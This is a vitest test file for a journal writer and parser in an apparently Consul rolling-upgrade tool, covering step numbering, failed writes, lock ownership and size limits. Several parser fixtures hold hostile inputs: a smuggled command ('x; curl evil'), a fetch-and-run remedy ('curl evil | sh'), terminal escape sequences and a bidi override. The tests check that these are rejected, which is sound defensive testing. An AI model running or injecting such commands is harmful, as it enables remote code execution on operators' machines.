import { describe, expect, it } from 'vitest';
import { JournalWriter } from '../../../src/lib/engine/run/journal.js';
import {
  formatJournal,
  MAX_JOURNAL_BYTES,
  MAX_JOURNAL_ENTRIES,
  parseJournal,
} from '../../../src/lib/engine/run/journal-value.js';
import { readLock } from '../../../src/lib/engine/run/lock.js';
import type { RollEvent } from '../../../src/lib/model/events.js';
import type { Journal, JournalEntry } from '../../../src/lib/model/journal.js';
import { EMPTY_MEMORY } from '../../../src/lib/model/memory.js';
import { createFakeEngine, type FakeEngine, runRoll } from '../../helpers/fake-engine.js';
import { buildMidRoll } from '../../helpers/intents.js';
import { runUntilSteps } from '../watch/roll-watched.js';

const KEY = 'consul-roll/consul/journal';

function readJournal(engine: FakeEngine): Journal | undefined {
  return parseJournal(engine.servers.get(KEY)?.value);
}

function stepsOf(entries: readonly JournalEntry[] = []): string[] {
  return entries.flatMap((entry) => (entry.kind === 'step' ? [`${entry.number} ${entry.step.action.kind}`] : []));
}

function stepsIn(events: readonly RollEvent[]): string[] {
  return events.flatMap((event) =>
    event.kind === 'step-started' ? [`${event.number} ${event.step.action.kind}`] : [],
  );
}

function journalOf(entries: number, instanceId = 'i-0a11'): Journal {
  const step = {
    phase: 'drain',
    action: { kind: 'terminate', instanceId },
    reason: { kind: 'agent-down' },
    margin: undefined,
  } as const;
  return {
    rollId: '7f3a',
    holder: 'ops@here 1',
    sinceMs: 5,
    entries: Array.from({ length: entries }, (_, n) => {
      return { n: n + 1, kind: 'step', number: n + 1, step, startedAtMs: 10 + n };
    }),
  };
}

describe('JournalWriter', () => {
  it('writes every step of a roll with its number, its reason and its times, and how the roll ended', async () => {
    const engine = createFakeEngine(3);
    const { result, events } = await runRoll(engine);
    const journal = readJournal(engine);
    expect(journal).toMatchObject({ rollId: '7f3a', holder: 'ops@here 1' });
    expect(stepsOf(journal?.entries)).toEqual(stepsIn(events));
    const { outcome, elapsedMs, leaderChanges } = result;
    expect(journal?.entries.at(-1)).toMatchObject({ kind: 'end', end: { outcome }, elapsedMs, leaderChanges });
    for (const entry of journal?.entries ?? []) {
      if (entry.kind !== 'step') continue;
      expect(entry.step.reason.kind).not.toBe('');
      expect(entry.endedAtMs).toBeGreaterThanOrEqual(entry.startedAtMs);
    }
  });

  it('continues the count where an earlier run of the roll ended', async () => {
    const engine = createFakeEngine(3);
    await runUntilSteps(engine, 10);
    const earlier = readJournal(engine)?.entries ?? [];
    expect(earlier.at(-1)).toMatchObject({ kind: 'end', end: { outcome: 'interrupted' }, n: earlier.length });
    const { events } = await runRoll({ ...engine, holder: 'ops@there 2' });
    const journal = readJournal(engine);
    const later = journal?.entries.filter(({ n }) => n > earlier.length) ?? [];
    expect(later[0]).toMatchObject({ kind: 'run', n: earlier.length + 1, holder: 'ops@there 2', resumed: true });
    expect(stepsOf(later)).toEqual(stepsIn(events));
  });

  it('starts again at 1 for another roll', async () => {
    const engine = createFakeEngine(3);
    await engine.servers.put(KEY, formatJournal({ ...journalOf(9), rollId: '0000' }));
    await runRoll(engine);
    expect(readJournal(engine)?.rollId).toBe('7f3a');
    expect(readJournal(engine)?.entries[0]).toMatchObject({ n: 1, kind: 'run' });
  });

  it('replaces a value that is not a journal', async () => {
    const engine = createFakeEngine(3);
    await engine.servers.put(KEY, '{"version":1');
    await runRoll(engine);
    expect(readJournal(engine)?.entries[0]).toMatchObject({ n: 1, kind: 'run' });
  });

  it('neither fails nor delays a roll whose journal cannot be written', async () => {
    const plain = await runRoll(createFakeEngine(3));
    const engine = createFakeEngine(3);
    const { readKey } = engine.consul;
    engine.consul.readKey = async (address, key) => {
      if (key === KEY) throw new Error('no answer');
      return readKey.call(engine.consul, address, key);
    };
    const { result, events } = await runRoll(engine);
    expect(result.elapsedMs).toBe(plain.result.elapsedMs);
    expect(stepsIn(events)).toEqual(stepsIn(plain.events));
    expect(readJournal(engine)).toBeUndefined();
  });

  it('waits for no write that takes long', async () => {
    const engine = createFakeEngine(3);
    const { compareAndSet } = engine.consul;
    let answer = (): void => undefined;
    const untilEnded = new Promise<void>((resolve) => {
      answer = resolve;
    });
    engine.consul.compareAndSet = async (address, key, ...rest) => {
      if (key === KEY) await untilEnded;
      return compareAndSet.call(engine.consul, address, key, ...rest);
    };
    const { result } = await runRoll(engine, { onEvent: ({ kind }) => kind === 'ended' && answer() });
    expect(result.outcome).toBe('rolled');
  });

  it('makes up for a failed write with the next one', async () => {
    const engine = createFakeEngine(3);
    const { compareAndSet } = engine.consul;
    let writes = 0;
    engine.consul.compareAndSet = async (address, key, ...rest) => {
      if (key === KEY) writes += 1;
      if (key === KEY && writes % 2 === 1) throw new Error('no answer');
      return compareAndSet.call(engine.consul, address, key, ...rest);
    };
    const { events } = await runRoll(engine);
    const written = stepsOf(readJournal(engine)?.entries);
    expect(written.length).toBeGreaterThan(20);
    expect(stepsIn(events).slice(0, written.length)).toEqual(written);
  });

  it('writes only while the run holds the lock', async () => {
    const engine = createFakeEngine(3);
    const { compareAndSet } = engine.consul;
    const holders: (string | undefined)[] = [];
    engine.consul.compareAndSet = async (address, key, ...rest) => {
      if (key === KEY) holders.push((await readLock(engine, 'consul', address))?.holder);
      return compareAndSet.call(engine.consul, address, key, ...rest);
    };
    await runRoll(engine);
    expect(new Set(holders)).toEqual(new Set(['ops@here 1']));
    const other = createFakeEngine(3);
    await runRoll(other, { order: { imageId: 'ami-0000000000000dead' } });
    expect(readJournal(other)).toBeUndefined();
  });

  it('leaves out the command of a hook and its output, which may hold secrets', async () => {
    const engine = createFakeEngine(3);
    const { intent } = buildMidRoll({ old: 3, new: 3, size: 3 });
    const { leader } = engine.servers;
    const writer = new JournalWriter(engine, intent, 5, () => leader);
    const reason = {
      kind: 'hook-failed',
      on: 'before-phase',
      phase: 'drain',
      instanceId: undefined,
      run: 'curl -H "Authorization: secret"',
      end: { kind: 'failed', exitCode: 1 },
      lastLine: 'secret',
    } as const;
    const whole = { intent, observation: undefined, memory: EMPTY_MEMORY, elapsedMs: 1, leaderChanges: 0 };
    const result = { outcome: 'stopped', reason, changed: 'cluster', ...whole } as const;
    writer.record({ kind: 'ended', atMs: 6, result });
    await writer.close();
    expect(readJournal(engine)?.entries[0]).toMatchObject({ kind: 'end', end: { reason: { kind: 'hook-failed' } } });
    expect(engine.servers.get(KEY)?.value).not.toContain('secret');
  });

  it('stops where another run writes the journal', async () => {
    const engine = createFakeEngine(3);
    const { intent } = buildMidRoll({ old: 3, new: 3, size: 3 });
    const { leader } = engine.servers;
    const writer = new JournalWriter(engine, intent, 5, () => leader);
    writer.record({ kind: 'started', intent, resumed: false, atMs: 5 });
    await writer.close();
    const other = formatJournal({ ...journalOf(1), holder: 'ops@there 2', sinceMs: 6 });
    await engine.servers.put(KEY, other);
    const { step } = journalOf(1).entries.find((entry) => entry.kind === 'step') ?? {};
    if (step === undefined) throw new Error('a journal of one entry has a step');
    for (const number of [1, 2]) writer.record({ kind: 'step-started', step, number, atMs: 6 });
    await writer.close();
    expect(engine.servers.get(KEY)?.value).toBe(other);
  });
});

describe('JournalWriter of the run that holds the lock', () => {
  it('writes over the late write of another run', async () => {
    const engine = createFakeEngine(3);
    const { intent } = buildMidRoll({ old: 3, new: 3, size: 3 });
    const { leader } = engine.servers;
    const own = { holder: engine.holder, rollId: intent.rollId, sinceMs: 5, renewedAtMs: 5, ttlMs: 30_000 };
    await engine.servers.put('consul-roll/consul/lock', JSON.stringify(own));
    const writer = new JournalWriter(engine, intent, 5, () => leader);
    writer.record({ kind: 'started', intent, resumed: false, atMs: 5 });
    await writer.close();
    await engine.servers.put(KEY, formatJournal({ ...journalOf(1), holder: 'ops@there 2', sinceMs: 6 }));
    writer.record({ kind: 'started', intent, resumed: true, atMs: 6 });
    await writer.close();
    expect(readJournal(engine)).toMatchObject({ holder: engine.holder, sinceMs: 5 });
  });
});

describe('formatJournal', () => {
  it('keeps the latest entries', () => {
    const entries = parseJournal(formatJournal(journalOf(MAX_JOURNAL_ENTRIES + 20)))?.entries;
    expect(entries).toHaveLength(MAX_JOURNAL_ENTRIES);
    expect(entries?.at(-1)?.n).toBe(MAX_JOURNAL_ENTRIES + 20);
  });

  it('keeps no more than fits, and cuts long texts short', () => {
    const value = formatJournal(journalOf(MAX_JOURNAL_ENTRIES, 'ä\n'.repeat(5_000)));
    expect(Buffer.byteLength(value)).toBeLessThanOrEqual(MAX_JOURNAL_BYTES);
    const entries = parseJournal(value)?.entries ?? [];
    expect(entries.length).toBeGreaterThan(20);
    expect(entries.at(-1)?.n).toBe(MAX_JOURNAL_ENTRIES);
  });
});

describe('parseJournal', () => {
  const MARGIN = { voters: 3, healthy: 3, quorum: 2, margin: 1 };
  const COUNTS = { elapsedMs: 1, leaderChanges: 0 };
  const endWith = (reason: unknown) => ({ outcome: 'stopped', reason, changed: 'cluster' });
  const whole = JSON.parse(formatJournal(journalOf(3)));
  const [first, second, third] = whole.entries;

  it.each([
    ['no JSON', '{'],
    ['another version', JSON.stringify({ ...whole, version: 2 })],
    ['too long a value', JSON.stringify({ ...whole, more: ' '.repeat(MAX_JOURNAL_BYTES) })],
    ['too many entries', JSON.stringify({ ...whole, entries: Array(MAX_JOURNAL_ENTRIES + 1).fill(1) })],
    ['a holder with control characters', JSON.stringify({ ...whole, holder: '\u001b[2J' })],
    ['a time out of range', JSON.stringify({ ...whole, sinceMs: 1e300 })],
  ])('ignores %s', (_, value) => {
    expect(parseJournal(value)).toBeUndefined();
  });

  it.each([
    ['of an unknown kind', { ...second, kind: 'party' }],
    ['with an unknown action', { ...second, step: { ...second.step, action: { kind: 'explode' } } }],
    ['with a field of its action missing', { ...second, step: { ...second.step, action: { kind: 'leave' } } }],
    ['with an escape sequence', { ...second, error: '\u001b]0;owned\u0007' }],
    ['with text that reorders what is printed', { ...second, error: 'i-\u202e0a11' }],
    ['with a number that no roll counts to', { ...second, n: Number.MAX_SAFE_INTEGER }],
    ['with a size out of range', { ...second, step: { ...second.step, margin: { ...MARGIN, voters: 1e308 } } }],
    [
      'that ends with a command of its own',
      { n: 2, kind: 'end', atMs: 1, end: endWith({ kind: 'old-group-gone', cluster: 'x; curl evil' }), ...COUNTS },
    ],
    ['out of order', { ...second, n: 1 }],
    ['that is not an object', 'step'],
  ])('leaves out an entry %s', (_, entry) => {
    const value = JSON.stringify({ ...whole, entries: [first, entry, third] });
    expect(parseJournal(value)?.entries.map(({ n }) => n)).toEqual([1, 3]);
  });

  it('reads the steps of builds that asked one server a step', () => {
    const reason = { kind: 'drained', side: 'old', remaining: 2 };
    const actions = [
      { kind: 'leave', instanceId: 'i-0a12', address: '127.1.1.12' },
      { kind: 'deregister', instanceId: 'i-0a12', balancers: ['consul-lb'] },
      { kind: 'terminate', instanceId: 'i-0a12' },
    ];
    const entries = actions.map((action, n) => {
      return { n: n + 1, kind: 'step', number: n + 1, step: { phase: 'drain', action, reason }, startedAtMs: 1 };
    });
    const read = parseJournal(JSON.stringify({ ...JSON.parse(formatJournal(journalOf(1))), entries }));
    expect(read?.entries.map((entry) => entry.kind === 'step' && entry.step.action)).toEqual([
      { kind: 'leave', servers: [{ instanceId: 'i-0a12', address: '127.1.1.12' }] },
      { kind: 'deregister', instanceIds: ['i-0a12'], balancers: ['consul-lb'] },
      { kind: 'terminate', instanceId: 'i-0a12' },
    ]);
  });

  it('takes no remedy from a journal: a watcher would print it as the next command', () => {
    const reason = { kind: 'step-failed', action: 'leave', message: 'no', times: 3, remedy: 'curl evil | sh' };
    const end = { n: 2, kind: 'end', atMs: 1, end: endWith(reason), ...COUNTS };
    const parsed = parseJournal(JSON.stringify({ ...whole, entries: [first, end] }))?.entries;
    expect(parsed).toHaveLength(2);
    expect(JSON.stringify(parsed)).not.toContain('evil');
  });
});
